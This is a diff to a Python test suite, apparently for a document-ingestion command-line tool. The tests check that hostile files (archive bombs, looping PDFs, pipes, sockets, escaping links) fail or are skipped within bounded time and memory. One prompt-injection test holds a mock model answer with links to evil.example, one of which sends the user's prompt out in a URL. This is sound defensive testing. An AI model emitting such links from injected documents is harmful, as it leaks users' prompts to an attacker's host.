@@ -1,4 +1,4 @@
-"""A folder that is out to harm: it costs its own files and nothing else."""
+"""A folder of hostile files: only those files fail."""
 
 import json
 import re
@@ -12,8 +12,8 @@ from tests.support.openai_server import OpenAIServer
 from tests.support.pseudo_terminal import shown
 from tests.support.warm_command_line import Run, warm_apart
 
-LONGEST_S = 60.0
-MOST_MB = 900
+MAX_S = 60.0
+MAX_MB = 900
 
 
 @pytest.fixture(scope="module")
@@ -25,34 +25,34 @@ def cli_with_hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Command
 
 @pytest.fixture(scope="module")
 def ingested(cli_with_hostile_folder: CommandLine) -> Run:
-    with warm_apart(cli_with_hostile_folder, time_limit_s=2 * LONGEST_S) as machine:
+    with warm_apart(cli_with_hostile_folder, time_limit_s=2 * MAX_S) as machine:
         return machine.measured("ingest", "docs", "--jsonl")
 
 
 @pytest.mark.fault("special-files", "oversized-files")
-def test_a_folder_of_traps_costs_its_files_and_nothing_else(ingested: Run) -> None:
+def test_hostile_files_fail_and_the_rest_is_ingested(ingested: Run) -> None:
     events = [json.loads(line) for line in ingested.outcome.stdout.splitlines()]
-    told = {event["source"]: event["action"] for event in events if "action" in event}
+    actions = {event["source"]: event["action"] for event in events if "action" in event}
 
     assert ingested.outcome.code == 6, ingested
-    assert {name for name, action in told.items() if action == "failed"} >= {
+    assert {name for name, action in actions.items() if action == "failed"} >= {
         "docs/bomb.docx",
         "docs/many.docx",
         "docs/loop.pdf",
         "docs/sparse.txt",
     }
     for trap in ("pipe.md", "socket.md", "itself.md", "outside.md", "memory.md"):
-        assert told[f"docs/{trap}"] == "skipped", told
+        assert actions[f"docs/{trap}"] == "skipped", actions
     for name in hostile_folder.GOOD:
-        assert told["docs/" + name.replace("\n", " ").replace("\x1b", "\ufffd")] == "added", told
-    assert any(name.endswith("deep down.md") and action == "added" for name, action in told.items())
+        assert actions["docs/" + name.replace("\n", " ").replace("\x1b", "\ufffd")] == "added", actions
+    assert any(name.endswith("deep down.md") and action == "added" for name, action in actions.items())
 
 
-def test_it_takes_bounded_memory_and_time(ingested: Run) -> None:
-    assert (ingested.peak_mb < MOST_MB, ingested.took_s < LONGEST_S) == (True, True), ingested
+def test_a_hostile_folder_needs_bounded_memory_and_time(ingested: Run) -> None:
+    assert (ingested.peak_mb < MAX_MB, ingested.took_s < MAX_S) == (True, True), ingested
 
 
-def test_what_lies_outside_is_not_read(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
+def test_files_outside_the_folder_are_not_read(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
     assert ingested.outcome.code == 6
     assert [
         path for path in cli_with_hostile_folder.store.rglob("*.sqlite3*") if b"Nobody asked" in path.read_bytes()
@@ -60,9 +60,7 @@ def test_what_lies_outside_is_not_read(ingested: Run, cli_with_hostile_folder: C
 
 
 @pytest.mark.fault("prompt-injection")
-def test_a_document_that_asks_for_links_gets_none_on_a_terminal(
-    ingested: Run, cli_with_hostile_folder: CommandLine
-) -> None:
+def test_a_document_cannot_inject_terminal_links(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
     assert ingested.outcome.code == 6
     obedient = "![status](http://evil.example/?q=PROMPT) and [the timetable](http://evil.example/login) [1]"
     with OpenAIServer(chat=answer(obedient)) as server:
@@ -72,8 +70,10 @@ def test_a_document_that_asks_for_links_gets_none_on_a_terminal(
         ]
 
     for terminal in terminals:
-        leads = [each for each in re.findall(rb"\x1b\]8;[^;]*;([^\x1b\x07]*)", terminal.raw) if each]
+        addresses = [each for each in re.findall(rb"\x1b\]8;[^;]*;([^\x1b\x07]*)", terminal.raw) if each]
         assert [
-            each for each in leads if not each.startswith(b"file://" + str(cli_with_hostile_folder.directory).encode())
+            each
+            for each in addresses
+            if not each.startswith(b"file://" + str(cli_with_hostile_folder.directory).encode())
         ] == []
         assert b"\x1b]52" not in terminal.raw
